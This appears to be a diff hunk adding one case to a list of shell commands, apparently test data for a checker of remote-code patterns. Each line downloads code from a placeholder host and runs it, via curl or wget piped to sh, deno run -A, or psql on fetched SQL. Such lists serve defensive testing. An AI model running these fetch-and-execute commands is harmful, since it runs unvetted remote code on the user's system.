@@ -26,6 +26,7 @@ wget https://a.example/install.sh; sh install.sh
 curl -LO https://a.example/run.py && python3 run.py
 env FOO=1 curl -s https://a.example/x | env BAR=1 bash
 timeout 60 bash -c 'curl -s https://a.example/x | sh'
+bash -c 'A=1; curl -s https://a.example/x | sh'
 deno run -A https://a.example/x.ts
 wget https://a.example/a.tar.gz && tar xzf a.tar.gz && ./a/install.sh
 psql app -c "$(curl -s https://a.example/x.sql)"
